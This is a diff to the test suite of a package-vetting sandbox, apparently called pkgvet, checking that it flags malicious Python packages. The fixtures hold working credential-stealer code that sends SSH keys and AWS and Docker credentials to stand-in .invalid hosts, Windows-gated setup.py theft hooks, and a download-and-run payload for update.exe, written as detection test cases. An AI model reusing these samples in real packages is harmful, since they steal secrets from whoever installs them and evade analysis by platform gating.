@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from builders import BENIGN_SETUP, make_sdist, make_wheel
-from pkgvet.model import Phase
+from pkgvet.model import Finding, Phase, Severity, Verdict
 from pkgvet.sandbox import SandboxSettings, SandboxUnavailable, check_ready, persona
 from pkgvet.sandbox.canonical import canonical_name
 from pkgvet.sandbox.execute import arguments, plan, public_callables
@@ -27,6 +27,7 @@ from pkgvet.sandbox.persona import (
 from pkgvet.sandbox.persona.delivery import project_name
 from pkgvet.sandbox.runner import Outcome, run
 from pkgvet.sources.local import local_artifact
+from pkgvet.verdict import decide
 
 IMAGE = os.environ.get("PKGVET_SANDBOX_IMAGE", SandboxSettings().image)
 
@@ -136,9 +137,11 @@ def test_plan_runs_the_project_s_entry_points_and_own_modules(tmp_path: Path) ->
     dist.mkdir()
     (dist / "entry_points.txt").write_text("[console_scripts]\ntool = tool.cli:main\n")
     (dist / "RECORD").write_text("tool/__init__.py,,\ntool/cli.py,,\n")
-    labels = [label for label, _, _ in plan(tmp_path, "tool", ["requests", "tool"])]
-    assert labels == ["(interpreter start)", "tool --help", "tool", "tool (calls)",
-                      "tool.cli (calls)"]
+    runs = plan(tmp_path, "tool", ["requests", "tool"])
+    labels = [label for label, _, _ in runs]
+    assert labels == ["(interpreter start)", "tool --help", "tool", "(imports, windows face)",
+                      "tool (calls)", "tool.cli (calls)"]
+    assert runs[3][1] == ["windows", "tool", "tool.cli"]  # the package's own, not requests
 
     import types
 
@@ -205,9 +208,105 @@ def test_entry_point_only_payload_runs_in_the_execute_phase(tmp_path: Path, runt
     })
     outcome = _run(path, tmp_path, runtime)
     (finding, *_) = _rules(outcome)["PV804"]
-    assert "whoami" in finding.snippet and finding.phase is Phase.IMPORT
+    # recorded, as runtime behaviour: one kind of behaviour when called is only low
+    assert "whoami" in finding.snippet and finding.phase is Phase.RUNTIME
+    assert finding.severity is Severity.LOW
     labels = [r.get("label") for r in outcome.records if r.get("type") == "phase_start"]
     assert "qt --help" in labels and "quiettool" in labels
+
+
+ENTRY_POINT_STEALER = """\
+import os
+import socket
+
+
+def main():
+    try:
+        with open(os.path.expanduser("~/.aws/credentials")) as fh:
+            blob = fh.read()
+    except OSError:
+        blob = ""
+    try:
+        with socket.create_connection(("collect.pkgvet-test.invalid", 443), timeout=3) as c:
+            c.sendall(blob.encode()[:300])
+    except OSError:
+        pass
+"""
+
+CALLED_STEALER = """\
+import glob
+import os
+import urllib.request
+
+
+def sync_settings(target):
+    found = {}
+    for pattern in ("~/.ssh/id_*", "~/.aws/credentials", "~/.docker/config.json"):
+        for path in glob.glob(os.path.expanduser(pattern)):
+            try:
+                found[path] = open(path).read()[:200]
+            except OSError:
+                pass
+    try:
+        urllib.request.urlopen("https://hooks.pkgvet-test.invalid/s",
+                               data=repr(found).encode(), timeout=3)
+    except Exception:
+        pass
+"""
+
+HTTP_CLIENT_LOOKALIKE = """\
+import netrc
+import os
+import socket
+
+
+class Client:
+    def __init__(self, base="api.pkgvet-test.invalid"):
+        self.base = base
+        try:
+            self.auth = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators(base)
+        except (OSError, netrc.NetrcParseError):
+            self.auth = None
+
+    def fetch(self, path):
+        try:
+            with socket.create_connection((self.base, 443), timeout=3) as conn:
+                conn.sendall(b"GET " + path.encode() + b" HTTP/1.0\\r\\n\\r\\n")
+        except OSError:
+            pass
+
+
+def get(path):
+    return Client().fetch(path)
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+@pytest.mark.parametrize("where", ["entry-point", "called-function"])
+def test_a_stealer_run_by_the_user_is_still_flagged(tmp_path: Path, where: str) -> None:
+    files = ({"stealtool/__init__.py": "", "stealtool/cli.py": ENTRY_POINT_STEALER,
+              "stealtool-1.0.dist-info/entry_points.txt":
+                  "[console_scripts]\nst = stealtool.cli:main\n"}
+             if where == "entry-point" else
+             {"stealtool/__init__.py": "", "stealtool/sync.py": CALLED_STEALER})
+    outcome = _run(make_wheel(tmp_path, "stealtool", "1.0", files), tmp_path)
+    found = _rules(outcome)
+    assert any(f.phase is Phase.RUNTIME and f.severity >= Severity.HIGH
+               for f in found.get("PV801", [])), sorted(found)
+    assert outcome.report.verdict is not Verdict.BENIGN
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+def test_a_client_doing_its_job_when_called_is_not_flagged(tmp_path: Path) -> None:
+    """Reading ~/.netrc and connecting to its own API host when called with placeholders is
+    what an HTTP client is for (httpx did both): recorded, low, and no sandbox flag."""
+    path = make_wheel(tmp_path, "tinyhttp", "1.0", {"tinyhttp/__init__.py": HTTP_CLIENT_LOOKALIKE})
+    outcome = _run(path, tmp_path)
+    runtime = [f for f in outcome.findings if f.phase is Phase.RUNTIME]
+    assert runtime and all(f.severity <= Severity.LOW for f in runtime), runtime
+    assert outcome.report.verdict is Verdict.BENIGN
 
 
 @pytest.mark.sandbox
@@ -379,3 +478,211 @@ def test_a_failed_install_is_tried_again_the_way_its_failure_calls_for() -> None
     assert why == "without dependencies" and "--no-deps" in offline
     assert next_install(offline, "No matching distribution found for hatchling") is None
     assert next_install(base, "error: invalid command 'bdist_wheel'") is None
+
+
+# --- the execute phase's weight (no engine) ----------------------------------------------------
+
+
+def _found(rule_id: str, snippet: str, phase: Phase = Phase.RUNTIME) -> Finding:
+    from pkgvet.registry import rule
+
+    return rule(rule_id).finding(phase=phase, snippet=snippet)
+
+
+def test_one_kind_of_behaviour_when_called_is_low() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    client = weigh([_found("PV801", "~/.netrc"), _found("PV806", "connect api.example.com:443")])
+    assert all(f.severity is Severity.LOW for f in client)
+    assert decide(client) is Verdict.BENIGN
+    alone = weigh([_found("PV802", "~/.config/gh/hosts.yml (absent)")])
+    assert alone[0].severity is Severity.LOW
+
+
+def test_theft_when_called_keeps_its_grade() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    theft = weigh([_found("PV801", "~/.ssh/id_rsa"), _found("PV806", "connect x.invalid:443")])
+    assert all(f.severity is Severity.HIGH for f in theft) and decide(theft) is not Verdict.BENIGN
+    sweep = weigh([_found("PV801", "~/.ssh/id_rsa"), _found("PV802", "~/.docker/config.json"),
+                   _found("PV801", "~/.aws/credentials")])
+    assert decide(sweep) is not Verdict.BENIGN
+    exfil = weigh([_found("PV803", "data sent to x:443: AKIA...")])
+    assert exfil[0].severity is Severity.CRITICAL
+
+
+def test_install_and_import_time_findings_are_not_weighed() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    found = weigh([_found("PV802", "~/.netrc", Phase.IMPORT), _found("PV806", "lookup a.b",
+                                                                      Phase.INSTALL)])
+    assert all(f.severity is Severity.HIGH for f in found)
+
+
+# --- the setup.py replay under the Windows face (real containers) ------------------------------
+
+GATED_THEFT = """\
+import os as _os
+import socket as _socket
+
+
+def _steal():
+    try:
+        with open(_os.path.expanduser("~/.ssh/id_rsa")) as fh:
+            blob = fh.read()
+    except OSError:
+        blob = ""
+    try:
+        with _socket.create_connection(("exfil.pkgvet-test.invalid", 443), timeout=3) as conn:
+            conn.sendall(blob[:300].encode())
+    except OSError:
+        pass
+"""
+
+WINDOWS_GATES = {
+    # the theft only where sys.platform says Windows, at module level of setup.py
+    "sys-platform": GATED_THEFT + """
+import sys
+if sys.platform == "win32":
+    _steal()
+from setuptools import setup
+setup(name="gated", version="1.0", packages=["gated"])
+""",
+    # in a cmdclass `install` (pip builds a wheel, so `install.run` never runs under pip)
+    "os-name-cmdclass": GATED_THEFT + """
+import os
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class Install(install):
+    def run(self):
+        if os.name == "nt":
+            _steal()
+        install.run(self)
+
+
+setup(name="gated", version="1.0", packages=["gated"], cmdclass={"install": Install})
+""",
+    # after a setup() that fails under pip (an invalid requirement), behind platform.system()
+    "after-failing-setup": GATED_THEFT + """
+import platform
+from setuptools import setup
+setup(name="gated", version="1.0", packages=["gated"], install_requires=["not a requirement!"])
+if platform.system() == "Windows":
+    _steal()
+""",
+}
+
+MISSING_DEPENDENCY_INIT = """\
+import socket
+import cookie_grabber_not_installed as grabber
+
+cookies = grabber.chrome(domain_name="example.com")
+try:
+    socket.create_connection(("hooks.pkgvet-test.invalid", 443), timeout=3).close()
+except OSError:
+    pass
+"""
+
+WINDOWS_AWARE_SETUP = """\
+import os
+import sys
+from setuptools import setup
+from setuptools.command.build_py import build_py
+
+extra = ["colorama"] if sys.platform == "win32" else []
+
+
+class BuildPy(build_py):
+    def run(self):
+        os.makedirs("build", exist_ok=True)
+        with open(os.path.join("build", "_version.txt"), "w") as fh:
+            fh.write("1.0")
+        build_py.run(self)
+
+
+setup(name="winaware", version="1.0", packages=["winaware"], install_requires=extra,
+      cmdclass={"build_py": BuildPy})
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+@pytest.mark.parametrize("gate", sorted(WINDOWS_GATES))
+def test_windows_gated_setup_py_is_replayed_and_flagged(tmp_path: Path, gate: str) -> None:
+    path = make_sdist(tmp_path, "gated", "1.0", {"setup.py": WINDOWS_GATES[gate],
+                                                 "gated/__init__.py": ""})
+    outcome = _run(path, tmp_path)
+    found = _rules(outcome)
+    assert any(f.phase is Phase.INSTALL for f in found.get("PV801", [])), sorted(found)
+    assert any("exfil.pkgvet-test.invalid" in f.snippet for f in found.get("PV806", []))
+    assert outcome.report.verdict is not Verdict.BENIGN
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+def test_import_time_code_runs_past_a_dependency_the_sandbox_lacks(tmp_path: Path) -> None:
+    """The package cannot install offline (its dependency is nowhere), yet its import-time
+    code is replayed from the source with a stand-in for the missing module."""
+    path = make_sdist(tmp_path, "needsdep", "1.0", {
+        "setup.py": "from setuptools import setup\nsetup(name='needsdep', version='1.0', "
+                    "packages=['needsdep'], install_requires=['cookie-grabber-not-installed'])\n",
+        "needsdep/__init__.py": MISSING_DEPENDENCY_INIT,
+    })
+    outcome = _run(path, tmp_path)
+    found = _rules(outcome)
+    assert any("hooks.pkgvet-test.invalid" in f.snippet for f in found.get("PV806", [])), \
+        sorted(found)
+    assert outcome.report.verdict is not Verdict.BENIGN
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+def test_a_windows_aware_setup_py_replays_clean(tmp_path: Path) -> None:
+    path = make_sdist(tmp_path, "winaware", "1.0", {"setup.py": WINDOWS_AWARE_SETUP,
+                                                    "winaware/__init__.py": ""})
+    outcome = _run(path, tmp_path)
+    labels = [r.get("label") for r in outcome.records if r.get("type") == "phase_start"]
+    assert "setup.py (windows face)" in labels
+    assert outcome.report.installable
+    assert outcome.report.verdict is Verdict.BENIGN, [f.rule_id for f in outcome.findings]
+
+
+def test_decoded_code_that_fetches_and_runs_is_graded_version_files_are_not() -> None:
+    from pkgvet.sandbox.persona import grade_code
+
+    payload = ("import urllib.request, subprocess\nurllib.request.urlretrieve("
+               "'http://payload.pkgvet-test.invalid/update.exe', 'u.exe')\n"
+               "subprocess.call(['u.exe'])\n")
+    version = "__version__ = '1.2.3'\n__url__ = 'https://github.com/example/project'\n"
+    records = [{"type": "persona", "what": "code", "call": "exec", "text": text,
+                "phase": "install", "label": "setup.py (windows face)"}
+               for text in (payload, version)]
+    (finding,) = grade_code(records)
+    assert finding.rule_id == "PV852" and finding.phase is Phase.INSTALL
+    assert "update.exe" in finding.snippet and "decoded code" in finding.title
+
+
+def test_persistence_written_when_called_keeps_its_grade() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    (found,) = weigh([_found("PV807", "~/.bashrc")])
+    assert found.severity is Severity.HIGH and decide([found]) is not Verdict.BENIGN
+
+
+def test_the_replay_s_own_copy_of_the_sdist_is_not_a_dropped_hook() -> None:
+    """filelock ships a `sitecustomize.py` in its sources: unpacked for the replay it is not
+    a start-up hook; the same file written into site-packages is."""
+    from pkgvet.sandbox.honeytokens import Honeytokens
+    from pkgvet.sandbox.observe import observe
+
+    def dropped(path: str) -> bool:
+        records = [{"type": "syscall", "phase": "install", "call": "open", "path": path,
+                    "write": True, "ok": True}]
+        _, findings = observe(records, Honeytokens.fresh(), image="img", seconds=1.0,
+                              killed_by_host=False, timeout=60.0)
+        return any(f.rule_id == "PV809" for f in findings)
+
+    assert not dropped("/tmp/build-abc123/filelock-4.3.1/tasks/capability/sitecustomize.py")
+    assert dropped("/tmp/venv/lib/python3.11/site-packages/sitecustomize.py")
